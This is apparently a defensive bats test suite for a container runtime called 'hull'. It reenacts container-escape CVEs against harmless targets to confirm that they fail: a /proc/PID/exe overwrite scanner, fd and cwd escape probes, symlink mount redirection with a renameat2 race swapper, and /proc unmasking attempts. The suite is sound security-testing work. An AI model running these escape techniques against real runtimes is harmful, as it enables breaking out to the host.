#!/usr/bin/env bats
# SPDX-License-Identifier: Apache-2.0
# Escapes that hit container runtimes before, each performed for real:
#   CVE-2019-5736   overwriting the runtime binary through /proc/PID/exe
#   CVE-2024-21626  a host fd or cwd reachable from the container
#   CVE-2021-30465  mounts / device nodes redirected by symlinks (and a race)
# and masked/read-only /proc paths that must stay so.

load helpers

# ------------------------------------------------------------------ helpers

# private_hull: use a private copy of the runtime for this test, so that a
# successful attack cannot break the rest of the suite; HULL_SHA is its
# sha256 before the attack.
private_hull() {
	cp "$HULL" "$HULL_TEST_DIR/hull-under-attack"
	chmod 0755 "$HULL_TEST_DIR/hull-under-attack"
	HULL="$HULL_TEST_DIR/hull-under-attack"
	HULL_SHA="$(sha256sum <"$HULL")"
}

assert_hull_intact() {
	local now
	now="$(sha256sum <"$HULL")"
	if [ "$now" != "$HULL_SHA" ]; then
		echo "THE RUNTIME BINARY WAS MODIFIED: $HULL_SHA -> $now" >&2
		return 1
	fi
}

# The attacker, /scan in a rootfs, run as a container's init: it watches every
# process of its pid namespace that does not run /bin/busybox; it tries to
# open the process's /proc/PID/exe for writing, and keeps it open for
# reading (fds 20-59, one per process and file) to retry writing through
# /proc/self/fd/N later, when the process has gone (and the file is no
# longer busy).  Successes print PWNED (once per fd: it is closed then).
# /tmp/seen logs what it saw; it stops when /tmp/final exists (after a last
# round of attempts; or after 120 s) and then touches /tmp/scan-done.
SCANNER='#!/bin/sh
me=$$
n=20
fds=""
held=" "
seen=" "
attack_fds() {
	for f in $fds; do
		if echo PWNED 2>/dev/null >>/proc/$me/fd/$f; then
			echo "PWNED through held fd $f -> $(readlink /proc/$me/fd/$f)"
			eval "exec $f<&-"
			fds=$(echo $fds | sed "s/\<$f\>//")
		fi
	done
}
scan() {
	for d in /proc/[0-9]*; do
		p=${d#/proc/}
		[ "$p" = "$me" ] && continue
		e=$(readlink $d/exe 2>/dev/null)
		[ "$e" = /bin/busybox ] && continue
		case "$seen" in *" $p "*) ;; *) seen="$seen$p "; echo "pid $p exe=[$e]" >>/tmp/seen ;; esac
		if echo PWNED 2>/dev/null >>$d/exe; then
			echo "PWNED through $d/exe -> $e"
		fi
		[ $n -lt 60 ] || continue
		eval "command exec $n<$d/exe" 2>/dev/null || continue
		t=$(readlink /proc/$me/fd/$n)
		if [ "$t" = /bin/busybox ]; then
			eval "exec $n<&-"
			continue
		fi
		case "$held" in
		*" $p:$t "*) eval "exec $n<&-" ;;
		*)
			held="$held$p:$t "
			fds="$fds $n"
			echo "holding fd $n on $p: $t" >>/tmp/seen
			n=$((n + 1))
			;;
		esac
	done
}
touch /tmp/scanning
i=0
end=$(($(date +%s) + 120))
# bounded by time, not rounds: on a loaded host a round count ran out before
# the victim had even started
while [ ! -e /tmp/final ]; do
	i=$((i + 1))
	scan
	attack_fds
	[ $((i % 200)) != 0 ] || [ "$(date +%s)" -le $end ] || break
done
scan
attack_fds
echo "rounds: $i" >>/tmp/seen
touch /tmp/scan-done
exec sleep 100'

# start_scanner: the container $CID runs $SCANNER; SCAN_ROOTFS is its rootfs
start_scanner() {
	printf '%s\n' "$SCANNER" >"$ROOTFS/scan"
	chmod 755 "$ROOTFS/scan"
	set_args /scan
	run_ct_detached
	SCAN_ROOTFS="$ROOTFS"
	SCAN_PID="$(ct_pid)"
	retry 100 0.05 test -e "$SCAN_ROOTFS/tmp/scanning"
}

# finish_scanner: a last round after every hull process has gone, then
# check that nothing was overwritten
finish_scanner() {
	touch "$SCAN_ROOTFS/tmp/final"
	retry 200 0.05 test -e "$SCAN_ROOTFS/tmp/scan-done"
	echo "--- scanner saw:"
	cat "$SCAN_ROOTFS/tmp/seen" 2>/dev/null || true
	echo "--- scanner printed:"
	cat "$HULL_TEST_DIR/$CID.out"
	refute grep -q PWNED "$HULL_TEST_DIR/$CID.out"
}

# a second bundle whose container joins the scanner's pid namespace
joined_bundle() {
	make_bundle "$HULL_TEST_DIR/bundle2"
	add_ns pid "/proc/$SCAN_PID/ns/pid"
}

# --------------------------------------------------------- CVE-2019-5736

@test "5736 control: the scanner does overwrite a binary it can reach" {
	# Proves the attack harness works: a process in the scanner's pid
	# namespace runs a private copy of busybox (not /bin/busybox, so the
	# scanner goes for it); once it exits, the held fd writes to the file.
	private_hull
	start_scanner
	joined_bundle
	mkdir -p "$ROOTFS/opt"
	cp "$BUSYBOX" "$ROOTFS/opt/sleep"
	victim_sha="$(sha256sum <"$ROOTFS/opt/sleep")"
	# /opt/sleep as a child, the container kept alive 3 s after it exits: the
	# held fd can write once the file is no longer busy, and only while the
	# victim's mount namespace (its rootfs mount) lives.  As the init itself
	# the two ended together, and the attack had to win that race (it lost
	# on a loaded host).
	set_sh '/opt/sleep 1; sleep 3'
	hrun run -b "$BUNDLE" "$CID-victim"
	[ "$status" -eq 0 ]
	run finish_scanner
	echo "$output"
	[[ "$output" == *PWNED* ]]
	[ "$(sha256sum <"$ROOTFS/opt/sleep")" != "$victim_sha" ]
	assert_hull_intact
}

@test "5736: a container whose init waits in create cannot overwrite hull" {
	private_hull
	start_scanner
	joined_bundle
	set_args true
	# the created container's init sits in hull's code, visible to the scanner
	create_ct "$CID-2"
	pid2="$(ct_pid "$CID-2")"
	# its pid in the scanner's namespace: the last NSpid field
	nspid="$(awk '/^NSpid:/ {print $NF}' "/proc/$pid2/status")"
	retry 400 0.05 grep -q "^pid $nspid " "$SCAN_ROOTFS/tmp/seen"
	# let the scanner have a few rounds at it
	sleep 0.5
	hull start "$CID-2"
	wait_status "$CID-2" stopped
	hull delete "$CID-2"
	finish_scanner
	assert_hull_intact
}

@test "5736: processes entering with hull exec cannot overwrite hull" {
	private_hull
	start_scanner
	for i in $(seq 1 12); do
		hrun exec "$CID" true
		[ "$status" -eq 0 ]
	done
	hrun exec -d "$CID" sleep 0.2
	finish_scanner
	assert_hull_intact
}

@test "5736: #!/proc/self/exe as the program of hull exec cannot overwrite hull" {
	private_hull
	start_scanner
	printf '#!/proc/self/exe\n' >"$SCAN_ROOTFS/evil"
	chmod 755 "$SCAN_ROOTFS/evil"
	for i in $(seq 1 8); do
		# whatever runs (hull as the interpreter, or an error), it is bounded
		HULL_TEST_MARK="$HULL_TEST_DIR" timeout -k 1 10 "$HULL" --root "$HULL_ROOT" exec "$CID" /evil \
			>"$HULL_TEST_DIR/evil.out" 2>&1 </dev/null 3>&- || true
	done
	finish_scanner
	assert_hull_intact
}

@test "5736: #!/proc/self/exe as a container's program cannot overwrite hull" {
	private_hull
	start_scanner
	joined_bundle
	printf '#!/proc/self/exe\n' >"$ROOTFS/evil"
	chmod 755 "$ROOTFS/evil"
	set_args /evil
	for i in 1 2 3 4 5; do
		HULL_TEST_MARK="$HULL_TEST_DIR" timeout -k 1 10 "$HULL" --root "$HULL_ROOT" run -b "$BUNDLE" "$CID-e$i" \
			>"$HULL_TEST_DIR/evil.out" 2>&1 </dev/null 3>&- || true
		hull delete -f "$CID-e$i" >/dev/null 2>&1 || true
	done
	finish_scanner
	assert_hull_intact
}

# -------------------------------------------------------- CVE-2024-21626

# FDCHECK: every fd `ls` inherits is 0-2 or its own (3) -- an fd leaked
# over the exec would be inherited too; the shell's own fds cannot be
# listed from the shell itself without artefacts (a glob or $(...) opens
# one) --; the targets of the shell's 0-2 are pipes, sockets, ptys or
# /dev/null; the cwd is in the container.  Prints BAD lines otherwise.
FDCHECK='ls /proc/self/fd | sort -n | tr "\n" " " >/tmp/fdlist.$$; echo "fds=$(cat /tmp/fdlist.$$)"
for f in 0 1 2; do
	t=$(readlink /proc/$$/fd/$f)
	case "$t" in
	pipe:*|socket:*|anon_inode:*|/dev/null|/dev/pts/*) ;;
	*) echo "BAD fd $f -> $t" ;;
	esac
done
echo "cwd=$(readlink /proc/self/cwd)"'

# check_fds: the output of FDCHECK in $output
check_fds() {
	echo "$output"
	refute grep -q '^BAD' <<<"$output"
	grep -qx 'fds=0 1 2 3 ' <<<"$output"
	refute grep -qF "$HULL_TEST_DIR" <<<"$output"
}

@test "21626: the container's init has no host fd and a cwd inside" {
	set_cfg '.process.cwd = "/tmp"'
	set_sh "$FDCHECK"
	run hull run -b "$BUNDLE" "$CID" </dev/null
	[ "$status" -eq 0 ]
	check_fds
	grep -qx 'cwd=/tmp' <<<"$output"
}

@test "21626: an exec'd process has no host fd and a cwd inside" {
	set_args sleep 100
	run_ct_detached
	wait_status "$CID" running
	run hull exec "$CID" sh -c "$FDCHECK" </dev/null
	[ "$status" -eq 0 ]
	check_fds
	grep -qx 'cwd=/' <<<"$output"
	run hull exec --cwd /etc "$CID" sh -c "$FDCHECK" </dev/null
	[ "$status" -eq 0 ]
	check_fds
	grep -qx 'cwd=/etc' <<<"$output"
}

# ESCAPE: from the cwd, climb up and look for a file only the host has
escape_probe() {
	echo "probe-$RANDOM" >"$HULL_TEST_DIR/host-only-marker"
	ESCAPE='up=""; for i in $(seq 1 40); do up="../$up"; done
if [ -e "$up'"$HULL_TEST_DIR"'/host-only-marker" ]; then echo ESCAPED; fi
echo "cwd=$(readlink /proc/self/cwd)"; ls -a . | head -n 20'
}

@test "21626: process.cwd /proc/self/fd/N does not reach a host directory" {
	escape_probe
	set_sh "$ESCAPE"
	for n in 3 4 5 6 7 8 9 10; do
		set_cfg '.process.cwd = $c' --arg c "/proc/self/fd/$n"
		hrun run -b "$BUNDLE" "$CID-$n"
		[[ "$output" != *ESCAPED* ]]
		[[ "$output" != *"cwd=/sys"* ]]
		# when it ran, the cwd is the container's, not a host path
		if [ "$status" -eq 0 ]; then
			refute grep -qF "$HULL_TEST_DIR" <<<"$output"
		fi
		hull delete -f "$CID-$n" >/dev/null 2>&1 || true
	done
}

@test "21626: exec --cwd /proc/self/fd/N does not reach a host directory" {
	escape_probe
	set_args sleep 100
	run_ct_detached
	wait_status "$CID" running
	for n in 3 4 5 6 7 8 9 10; do
		hrun exec --cwd "/proc/self/fd/$n" "$CID" sh -c "$ESCAPE"
		[[ "$output" != *ESCAPED* ]]
		[[ "$output" != *"cwd=/sys"* ]]
		if [ "$status" -eq 0 ]; then
			refute grep -qF "$HULL_TEST_DIR" <<<"$output"
		fi
	done
	[ "$(ct_status)" = running ]
}

@test "21626: /proc/self/fd/N of the init's exec'd program reaches nothing of the host" {
	# what the program would see there if hull leaked an fd over the exec
	escape_probe
	set_sh 'for n in 3 4 5 6 7 8 9 10 11 12; do
		if [ -e /proc/self/fd/$n ]; then echo "LEAK $n -> $(readlink /proc/self/fd/$n)"; fi
	done; echo done'
	run hull run -b "$BUNDLE" "$CID" </dev/null
	echo "$output"
	[ "$status" -eq 0 ]
	refute grep -q '^LEAK' <<<"$output"
}

# -------------------------------------------------------- CVE-2021-30465

# mount_spy: a createContainer hook (runs in the container's mount namespace
# before pivot_root, where the host paths still show) that appends the
# container's mountinfo to $HULL_TEST_DIR/ct-mountinfo; and check_no_mount
# DIR...: neither the host nor any container namespace seen by the spy has
# a mount on or below DIR, and DIR's content is unchanged (list in DIR.ls)
mount_spy() {
	set_cfg '.hooks.createContainer = [{path: "/bin/busybox", args: ["sh", "-c", "/bin/busybox cat /proc/self/mountinfo >>\"$0\"", $f]}]' \
		--arg f "$HULL_TEST_DIR/ct-mountinfo"
	: >"$HULL_TEST_DIR/ct-mountinfo"
}

# host_dir NAME [SUBDIR...]: a directory outside the rootfs with one file
# in it (and in each SUBDIR); its listing is kept to compare with later
host_dir() {
	local d="$HULL_TEST_DIR/$1" s
	shift
	mkdir -p "$d"
	echo "host file" >"$d/host-file"
	for s in "$@"; do
		mkdir -p "$d/$s"
		echo "host file" >"$d/$s/host-file"
	done
	dir_listing "$d" >"$d.listing"
}

# dir_listing DIR: every path below DIR with its type and content hash
dir_listing() {
	(cd "$1" && find . -printf '%p %y\n' | sort && find . -type f -exec sha256sum {} + | sort)
}

check_no_mount() {
	local d
	for d in "$@"; do
		d="$HULL_TEST_DIR/$d"
		if awk -v d="$d" '$5 == d || index($5, d "/") == 1' /proc/self/mountinfo | grep -q .; then
			echo "host mount on $d" >&2
			return 1
		fi
		if [ -s "$HULL_TEST_DIR/ct-mountinfo" ] &&
			awk -v d="$d" '$5 == d || index($5, d "/") == 1' "$HULL_TEST_DIR/ct-mountinfo" | grep -q .; then
			echo "mount on $d in the container's namespace:" >&2
			awk -v d="$d" 'index($5, d) == 1' "$HULL_TEST_DIR/ct-mountinfo" >&2
			return 1
		fi
		if ! diff "$d.listing" <(dir_listing "$d") >&2; then
			echo "content of $d changed" >&2
			return 1
		fi
	done
}

@test "30465: a mount destination through a symlink chain leaving the rootfs" {
	host_dir host-chain
	mount_spy
	# /chain1 -> chain2 -> ../../host-chain (rootfs is $HULL_TEST_DIR/bundle/rootfs)
	ln -s chain2 "$ROOTFS/chain1"
	ln -s ../../host-chain "$ROOTFS/chain2"
	add_mount '{"destination": "/chain1", "type": "tmpfs", "source": "tmpfs", "options": ["size=1m"]}'
	add_mount '{"destination": "/chain2/sub", "type": "tmpfs", "source": "tmpfs", "options": ["size=1m"]}'
	set_sh 'touch /chain1/written /chain2/sub/written 2>/dev/null; echo ran'
	hrun run -b "$BUNDLE" "$CID"
	check_no_mount host-chain
	assert_nothing_left
}

@test "30465: absolute and relative symlinks as mount destinations" {
	host_dir host-abs
	host_dir host-rel
	mount_spy
	ln -s "$HULL_TEST_DIR/host-abs" "$ROOTFS/abs"
	ln -s ../../../../../../../../..$HULL_TEST_DIR/host-rel "$ROOTFS/rel"
	add_mount '{"destination": "/abs", "type": "tmpfs", "source": "tmpfs", "options": ["size=1m"]}'
	add_mount "{\"destination\": \"/rel\", \"type\": \"bind\", \"source\": \"$BUNDLE/config.json\", \"options\": [\"bind\"]}"
	set_sh 'echo ran'
	hrun run -b "$BUNDLE" "$CID"
	check_no_mount host-abs host-rel
	assert_nothing_left
}

@test "30465: /dev symlinked out of the rootfs: no device node or mount on the host" {
	host_dir host-dev
	mount_spy
	rm -rf "$ROOTFS/dev"
	ln -s "$HULL_TEST_DIR/host-dev" "$ROOTFS/dev"
	set_sh 'ls /dev >/dev/null; echo ran'
	hrun run -b "$BUNDLE" "$CID"
	check_no_mount host-dev
	assert_nothing_left
}

@test "30465: /dev symlinked out (relative) without a /dev tmpfs: nothing created on the host" {
	host_dir host-dev2
	mount_spy
	set_cfg '.mounts |= map(select(.destination | startswith("/dev") | not))'
	rm -rf "$ROOTFS/dev"
	ln -s ../../host-dev2 "$ROOTFS/dev"
	set_sh 'echo ran'
	hrun run -b "$BUNDLE" "$CID"
	check_no_mount host-dev2
	assert_nothing_left
}

@test "30465: /dev entries that are symlinks out of the rootfs" {
	host_dir host-devfiles
	mount_spy
	# no /dev tmpfs: the runtime works in the rootfs' own dev directory
	set_cfg '.mounts |= map(select(.destination | startswith("/dev") | not))
		| .linux.devices = [{"path": "/dev/evil", "type": "c", "major": 1, "minor": 3, "fileMode": 438}]'
	mkdir -p "$ROOTFS/dev"
	d="$HULL_TEST_DIR/host-devfiles"
	ln -s "$d/null" "$ROOTFS/dev/null"
	ln -s "../../../host-devfiles/zero" "$ROOTFS/dev/zero"
	ln -s full2 "$ROOTFS/dev/full"
	ln -s "$d/full" "$ROOTFS/dev/full2"
	ln -s "$d/tty" "$ROOTFS/dev/tty"
	ln -s "$d/evil" "$ROOTFS/dev/evil"
	# an existing host file as a target, too
	echo "host urandom" >"$d/urandom-target"
	dir_listing "$d" >"$d.listing"
	ln -s "$d/urandom-target" "$ROOTFS/dev/urandom"
	set_sh 'echo ran'
	hrun run -b "$BUNDLE" "$CID"
	# nothing created, replaced or mounted on the host
	check_no_mount host-devfiles
	assert_nothing_left
}

@test "30465: a race swapping a mount destination with a symlink to the host" {
	need_cmd perl
	[ "$(uname -m)" = x86_64 ] || skip "the swapper uses renameat2 by its x86_64 number"
	host_dir host-race mnt
	mount_spy
	mkdir -p "$ROOTFS/race/mnt"
	# the other name: alternately an absolute and a relative symlink to the host
	ln -s "$HULL_TEST_DIR/host-race" "$ROOTFS/race-link"
	add_mount '{"destination": "/race/mnt", "type": "tmpfs", "source": "tmpfs", "options": ["size=1m"]}'
	set_args true
	# swap /race and /race-link with renameat2(RENAME_EXCHANGE) as fast as possible
	perl -e '
		my ($a, $b, $stop) = @ARGV; my $n = 0; my $end = time + 30;
		while (!-e $stop && time < $end) { $n++ if syscall(316, -100, $a, -100, $b, 2) == 0; }
		open(my $f, ">", "$stop.count"); print $f "$n\n";' \
		"$ROOTFS/race" "$ROOTFS/race-link" "$HULL_TEST_DIR/stop-swapper" 3>&- &
	HULL_BG_PIDS+=($!)
	swapper=$!
	ok=0
	for i in $(seq 1 30); do
		if HULL_TEST_MARK="$HULL_TEST_DIR" timeout -k 1 10 "$HULL" --root "$HULL_ROOT" run -b "$BUNDLE" "$CID-$i" \
			>/dev/null 2>&1 </dev/null 3>&-; then
			ok=$((ok + 1))
		fi
		hull delete -f "$CID-$i" >/dev/null 2>&1 || true
	done
	touch "$HULL_TEST_DIR/stop-swapper"
	wait "$swapper"
	echo "swaps: $(cat "$HULL_TEST_DIR/stop-swapper.count"), runs that succeeded: $ok"
	[ "$(cat "$HULL_TEST_DIR/stop-swapper.count")" -gt 100 ]
	[ "$(wc -l <"$HULL_TEST_DIR/ct-mountinfo")" -gt 0 ]
	check_no_mount host-race
	[ -z "$(hull list -q)" ]
}

# ------------------------------------------- masked and read-only /proc

# a masked file this kernel has (/proc/kcore needs CONFIG_PROC_KCORE)
masked_file() {
	local f
	for f in /proc/kcore /proc/timer_list /proc/keys; do
		[ -e "$f" ] && { echo "$f"; return; }
	done
	skip "none of the default masked /proc files exists here"
}

@test "masked and read-only /proc paths cannot be undone with the default capabilities" {
	M="$(masked_file)"
	[ "$(wc -c <"$M")" -gt 0 ] || skip "$M is empty on the host"
	set_sh '
		M="'"$M"'"
		try() { if "$@" >/dev/null 2>&1; then echo "UNDONE: $*"; else echo "refused: $*"; fi; }
		try umount "$M"
		try umount -l "$M"
		try umount /proc/sys
		try umount -l /proc/sys
		try mount -o remount,rw /proc/sys
		try mount -o remount,rw,bind /proc/sys
		try mount -t proc proc /tmp
		try mount --bind / "$M"
		try mount -t tmpfs tmpfs /proc/sys
		echo "masked=$(cat "$M" 2>/dev/null | wc -c)"
		if echo x 2>/dev/null >/proc/sys/kernel/hostname; then echo "UNDONE: hostname written"; fi
		if echo h 2>/dev/null >/proc/sysrq-trigger; then echo "UNDONE: sysrq-trigger written"; fi
		grep -E " ($M|/proc/sys) " /proc/self/mountinfo | sed "s/^/mnt: /"'
	run hull run -b "$BUNDLE" "$CID" </dev/null
	echo "$output"
	[ "$status" -eq 0 ]
	refute grep -q UNDONE <<<"$output"
	[ "$(grep -c '^refused' <<<"$output")" -eq 9 ]
	grep -Eq '^masked= *0$' <<<"$output"
	# still masked / read-only
	grep -q "^mnt: .* $M " <<<"$output"
	grep -Eq '^mnt: .* /proc/sys ro[, ]' <<<"$output"
	[ "$(cat /proc/sys/kernel/hostname)" != x ]
}

@test "masked and read-only /proc paths stay so for an exec'd process" {
	set_args sleep 100
	run_ct_detached
	wait_status "$CID" running
	M="$(masked_file)"
	run hull exec "$CID" sh -c '
		umount "$0" 2>/dev/null && echo UNDONE-umount
		mount -o remount,rw /proc/sys 2>/dev/null && echo UNDONE-remount
		echo x 2>/dev/null >/proc/sys/kernel/hostname && echo UNDONE-hostname
		echo "masked=$(cat "$0" 2>/dev/null | wc -c)"' "$M" </dev/null
	echo "$output"
	[ "$status" -eq 0 ]
	refute grep -q UNDONE <<<"$output"
	grep -Eq '^masked= *0$' <<<"$output"
}

# ------------------------------------------- issue 22: procfs, /dev/null
# Mounts inside /proc (CVE-2019-16884, CVE-2019-19921), hull's own procfs
# writes redirected (CVE-2025-52881), masked paths bound from a /dev/null
# that is not one (CVE-2025-31133); docs/security.md.  Each is the attack
# with a harmless target: a file of the container's own rootfs.  Each of
# these fails with hull before issue 22; the comment says how Debian's
# runc 1.1.5 (/usr/sbin/runc) fares.

# last_mount: the index of the last entry of .mounts
last_mount() { jq '.mounts | length - 1' "$CONFIG"; }

@test "22: a bind mount inside /proc is refused (it redirected hull's sysctl writes)" {
	# runc 1.1.5 refuses the mount too ("cannot be mounted because it is
	# inside /proc"): it fails here only on hull's one-line error.
	mkdir "$ROOTFS/fake-net"
	ln -s /tmp "$ROOTFS/fake-net/ipv4"
	: >"$ROOTFS/tmp/ip_forward"
	add_mount "{\"destination\": \"/proc/sys/net\", \"type\": \"bind\", \"source\": \"$ROOTFS/fake-net\", \"options\": [\"bind\"]}"
	set_cfg '.linux.sysctl = {"net.ipv4.ip_forward": "1"}'
	set_sh 'echo ran'
	hrun run -b "$BUNDLE" "$CID"
	[ "$status" -ne 0 ]
	assert_one_line_error "mounts[$(last_mount)].destination: /proc/sys/net is inside /proc"
	[ ! -s "$ROOTFS/tmp/ip_forward" ]
	assert_nothing_left
}

@test "22: a mount reaching into /proc through a symlink of the image is refused" {
	# runc 1.1.5 refuses it too (it checks the destination once resolved):
	# it fails here only on hull's one-line error.
	mkdir -p "$ROOTFS/mnt" "$ROOTFS/fake-net"
	ln -s /proc/sys "$ROOTFS/mnt/x"
	ln -s /tmp "$ROOTFS/fake-net/ipv4"
	: >"$ROOTFS/tmp/ip_forward"
	add_mount "{\"destination\": \"/mnt/x/net\", \"type\": \"bind\", \"source\": \"$ROOTFS/fake-net\", \"options\": [\"bind\"]}"
	set_cfg '.linux.sysctl = {"net.ipv4.ip_forward": "1"}'
	set_sh 'echo ran'
	hrun run -b "$BUNDLE" "$CID"
	[ "$status" -ne 0 ]
	assert_one_line_error "mounts[$(last_mount)].destination: /mnt/x/net is inside /proc"
	[ ! -s "$ROOTFS/tmp/ip_forward" ]
	# a cgroup mount likewise (mounted by code of its own)
	make_bundle "$HULL_TEST_DIR/b2"
	ln -s /proc/sys "$ROOTFS/cg"
	add_mount '{"destination": "/cg", "type": "cgroup", "source": "cgroup", "options": ["ro"]}'
	set_sh 'echo ran'
	hrun run -b "$BUNDLE" "$CID-2"
	[ "$status" -ne 0 ]
	assert_one_line_error "mounts[$(last_mount)].destination: /cg is inside /proc"
	assert_nothing_left
}

@test "22: /proc takes only a procfs: a bind of a directory there is refused" {
	# runc 1.1.5 refuses it too ("is not of type proc"): it fails here
	# only on hull's one-line error.
	mkdir -p "$ROOTFS/fake-proc/sys/net/ipv4"
	: >"$ROOTFS/fake-proc/sys/net/ipv4/ip_forward"
	set_cfg '.mounts |= map(select(.destination != "/proc"))'
	add_mount "{\"destination\": \"/proc\", \"type\": \"bind\", \"source\": \"$ROOTFS/fake-proc\", \"options\": [\"rbind\"]}"
	set_cfg '.linux.sysctl = {"net.ipv4.ip_forward": "1"}'
	set_sh 'echo ran'
	hrun run -b "$BUNDLE" "$CID"
	[ "$status" -ne 0 ]
	assert_one_line_error "mounts[$(last_mount)].destination: /proc takes only a procfs, not a bind of $ROOTFS/fake-proc"
	[ ! -s "$ROOTFS/fake-proc/sys/net/ipv4/ip_forward" ]
	assert_nothing_left
}

@test "22: the files engines and lxcfs bind over in /proc still can be, and /proc can be a bind of a procfs" {
	echo "12345.67 0.00" >"$ROOTFS/fake-uptime"
	add_mount "{\"destination\": \"/proc/uptime\", \"type\": \"bind\", \"source\": \"$ROOTFS/fake-uptime\", \"options\": [\"bind\"]}"
	set_sh 'cat /proc/uptime'
	hrun run -b "$BUNDLE" "$CID"
	[ "$status" -eq 0 ]
	[ "$output" = "12345.67 0.00" ]
	# the host's /proc bound (rootless engines sharing the host's pids)
	make_bundle "$HULL_TEST_DIR/b2"
	del_ns pid
	set_cfg '.mounts |= map(if .destination == "/proc" then {destination: "/proc", type: "bind", source: "/proc", options: ["rbind"]} else . end)'
	set_sh 'test -e /proc/1/status && echo ok'
	hrun run -b "$BUNDLE" "$CID-2"
	[ "$status" -eq 0 ]
	[ "$output" = ok ]
}

@test "22: a mount onto sysfs below /sys is refused, /sys/fs/cgroup is not" {
	# runc 1.1.5 fails: it mounts the tmpfs over the container's /sys/kernel.
	add_mount '{"destination": "/sys/kernel", "type": "tmpfs", "source": "tmpfs", "options": ["size=1m"]}'
	set_sh 'echo ran'
	hrun run -b "$BUNDLE" "$CID"
	[ "$status" -ne 0 ]
	assert_one_line_error "mounts[$(last_mount)].destination: /sys/kernel is inside /sys"
	# the same through a symlink of the image
	make_bundle "$HULL_TEST_DIR/b2"
	ln -s /sys/kernel "$ROOTFS/sk"
	add_mount '{"destination": "/sk", "type": "tmpfs", "source": "tmpfs", "options": ["size=1m"]}'
	set_sh 'echo ran'
	hrun run -b "$BUNDLE" "$CID-2"
	[ "$status" -ne 0 ]
	assert_one_line_error "mounts[$(last_mount)].destination: /sk is inside /sys"
	# /sys/fs/cgroup may take something else than the cgroup mount
	make_bundle "$HULL_TEST_DIR/b3"
	set_cfg '.mounts |= map(select(.destination != "/sys/fs/cgroup"))'
	add_mount '{"destination": "/sys/fs/cgroup", "type": "tmpfs", "source": "tmpfs", "options": ["size=1m"]}'
	set_sh 'grep " /sys/fs/cgroup " /proc/self/mountinfo | grep -c tmpfs'
	hrun run -b "$BUNDLE" "$CID-3"
	[ "$status" -eq 0 ]
	[ "$output" = 1 ]
	assert_nothing_left
}

@test "22: sysctls are written only into a procfs: an image's /proc/sys that is not one is refused" {
	# runc 1.1.5 fails: it writes 1 into the container's /tmp/ip_forward.
	set_cfg '.mounts |= map(select(.destination != "/proc"))'
	mkdir -p "$ROOTFS/proc/sys/net"
	ln -s /tmp "$ROOTFS/proc/sys/net/ipv4"
	: >"$ROOTFS/tmp/ip_forward"
	set_cfg '.linux.sysctl = {"net.ipv4.ip_forward": "1"}'
	set_sh 'echo ran'
	hrun run -b "$BUNDLE" "$CID"
	[ "$status" -ne 0 ]
	assert_one_line_error "linux.sysctl: net.ipv4.ip_forward: /proc is not a procfs"
	[ ! -s "$ROOTFS/tmp/ip_forward" ]
	assert_nothing_left
}

@test "52881: a mount raced in inside /proc does not redirect a sysctl write" {
	# The racing process is a createContainer hook: it runs in the
	# container's mount namespace after the mounts, before the sysctls are
	# written, and binds a directory over the container's /proc/sys/net.
	# runc 1.1.5 fails: it writes 1 into the container's /tmp/ip_forward.
	mkdir "$ROOTFS/fake-net"
	ln -s /tmp "$ROOTFS/fake-net/ipv4"
	: >"$ROOTFS/tmp/ip_forward"
	set_cfg '.hooks.createContainer = [{path: "/bin/sh", args: ["sh", "-c", $s]}]' \
		--arg s "mount --bind '$ROOTFS/fake-net' '$ROOTFS/proc/sys/net'"
	set_cfg '.linux.sysctl = {"net.ipv4.ip_forward": "1"}'
	set_sh 'echo ran'
	hrun run -b "$BUNDLE" "$CID"
	[ "$status" -ne 0 ]
	assert_one_line_error "linux.sysctl: net.ipv4.ip_forward: /proc/sys/net/ipv4/ip_forward crosses a mount"
	[ ! -s "$ROOTFS/tmp/ip_forward" ]
	assert_nothing_left
}

@test "22: sysctls still work (through the checked procfs)" {
	set_cfg '.linux.sysctl = {"net.ipv4.ip_forward": "1", "kernel.shmmni": "1234"}'
	set_sh 'cat /proc/sys/net/ipv4/ip_forward /proc/sys/kernel/shmmni'
	hrun run -b "$BUNDLE" "$CID"
	[ "$status" -eq 0 ]
	[ "$output" = "1
1234" ]
}

@test "22: oomScoreAdj is written only into a procfs" {
	# runc 1.1.5 writes oom_score_adj before the rootfs is made; it fails
	# here as it cannot run at all without a procfs at /proc.
	set_cfg '.mounts |= map(select(.destination != "/proc"))'
	mkdir -p "$ROOTFS/proc/self"
	: >"$ROOTFS/proc/self/oom_score_adj"
	set_cfg '.process.oomScoreAdj = 100'
	set_sh 'echo ran'
	hrun run -b "$BUNDLE" "$CID"
	[ "$status" -ne 0 ]
	assert_one_line_error "process.oomScoreAdj: /proc/self/oom_score_adj (/proc is not a procfs)"
	[ ! -s "$ROOTFS/proc/self/oom_score_adj" ]
	assert_nothing_left
}

@test "31133: masked paths are not bound from a /dev/null that is a symlink" {
	# runc 1.1.5 fails: /etc/masked shows the file /dev/null points to.
	mkdir "$BUNDLE/fake-dev"
	ln -s /leak "$BUNDLE/fake-dev/null"
	echo leaked >"$ROOTFS/leak"
	echo secret >"$ROOTFS/etc/masked"
	set_cfg '.mounts |= map(if .destination == "/dev" then {destination: "/dev", type: "bind", source: $d, options: ["rbind"]} else . end)' \
		--arg d "$BUNDLE/fake-dev"
	set_cfg '.linux.maskedPaths = ["/etc/masked"]'
	set_sh 'cat /etc/masked'
	hrun run -b "$BUNDLE" "$CID"
	[ "$status" -ne 0 ]
	[[ "$output" != *leaked* ]]
	assert_one_line_error "linux.maskedPaths: /etc/masked: /dev/null of the container is not the null device (1:3)"
	assert_nothing_left
}

@test "31133: masked paths are not bound from a /dev/null that is another file" {
	# runc 1.1.5 fails: /etc/masked shows the regular file's contents.
	mkdir "$BUNDLE/fake-dev"
	echo leaked >"$BUNDLE/fake-dev/null"
	echo secret >"$ROOTFS/etc/masked"
	set_cfg '.mounts |= map(if .destination == "/dev" then {destination: "/dev", type: "bind", source: $d, options: ["rbind"]} else . end)' \
		--arg d "$BUNDLE/fake-dev"
	set_cfg '.linux.maskedPaths = ["/etc/masked"]'
	set_sh 'cat /etc/masked'
	hrun run -b "$BUNDLE" "$CID"
	[ "$status" -ne 0 ]
	[[ "$output" != *leaked* ]]
	assert_one_line_error "linux.maskedPaths: /etc/masked: /dev/null of the container is not the null device (1:3)"
	assert_nothing_left
}

@test "31133: a masked path that is a symlink is not followed" {
	# A guard: hull never followed it.  runc 1.1.5 fails: it masks
	# /etc/keep, the symlink's target.
	echo kept >"$ROOTFS/etc/keep"
	echo secret >"$ROOTFS/etc/masked"
	ln -s /etc/keep "$ROOTFS/etc/link"
	set_cfg '.linux.maskedPaths = ["/etc/link", "/etc/masked"]'
	set_sh 'cat /etc/keep; cat /etc/masked; echo end'
